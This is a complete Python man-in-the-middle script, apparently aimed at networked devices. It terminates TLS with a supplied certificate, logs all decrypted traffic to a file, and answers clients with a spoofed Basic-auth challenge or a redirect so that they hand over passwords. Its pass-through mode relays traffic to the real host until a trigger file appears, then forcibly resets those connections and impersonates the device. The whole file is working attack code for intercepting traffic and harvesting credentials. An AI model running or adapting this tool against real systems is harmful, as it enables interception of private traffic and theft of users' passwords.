"""Somebody in between.

usage: mitm.py PORT CERT KEY DUMP [--pass HOST:PORT --until FILE] [--redirect URL] [--listen ADDRESS]

Ends TLS with its own key and appends every byte that it can read to DUMP.  Each request is answered
so that a careless client gives away its password: with a challenge for Basic, or with a redirect.
With --pass it only hands bytes on to the real box, unread, until FILE exists; then it cuts these
connections, and from there on it answers itself.
"""

import argparse
import os
import socket
import ssl
import struct
import threading
import time

parser = argparse.ArgumentParser()
parser.add_argument("port", type=int)
parser.add_argument("cert")
parser.add_argument("key")
parser.add_argument("dump")
parser.add_argument("--pass", dest="real")
parser.add_argument("--until")
parser.add_argument("--redirect")
parser.add_argument("--listen", default="127.0.0.1")
options = parser.parse_args()

context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(options.cert, options.key)
handed_on = []
lock = threading.Lock()


def dump(data):
    with lock, open(options.dump, "ab") as out:
        out.write(data)


def answer():
    if options.redirect:
        return f"HTTP/1.1 302 Found\r\nLocation: {options.redirect}\r\nContent-Length: 0\r\n\r\n"
    return (
        "HTTP/1.1 401 Unauthorized\r\n"
        'WWW-Authenticate: Basic realm="IP811-00-90-33-4e-00-01"\r\nContent-Length: 0\r\n\r\n'
    )


def read_all(plain):
    with context.wrap_socket(plain, server_side=True) as connection:
        while data := connection.recv(65536):
            dump(data)
            if b"\r\n\r\n" in data:
                connection.sendall(answer().encode())


def serve(plain):
    try:
        read_all(plain)
    except OSError:
        pass


def pump(source, target):
    try:
        while data := source.recv(65536):
            target.sendall(data)
        target.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def hand_on(plain):
    host, port = options.real.rsplit(":", 1)
    real = socket.create_connection((host, int(port)))
    handed_on.append((plain, real))
    threading.Thread(target=pump, args=(plain, real), daemon=True).start()
    threading.Thread(target=pump, args=(real, plain), daemon=True).start()


def appeared():
    return not options.real or os.path.exists(options.until)


def cut():
    """With a reset, as when a box loses its power."""
    while not appeared():
        time.sleep(0.01)
    for pair in handed_on:
        for end in pair:
            end.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            try:
                end.shutdown(socket.SHUT_RD)
            except OSError:
                pass
            end.close()
    open(options.dump, "ab").close()
    with open(options.dump + ".ready", "w"):
        pass


open(options.dump, "ab").close()
threading.Thread(target=cut, daemon=True).start()
server = socket.create_server((options.listen, options.port), backlog=64)
while True:
    peer, _ = server.accept()
    threading.Thread(target=serve if appeared() else hand_on, args=(peer,), daemon=True).start()
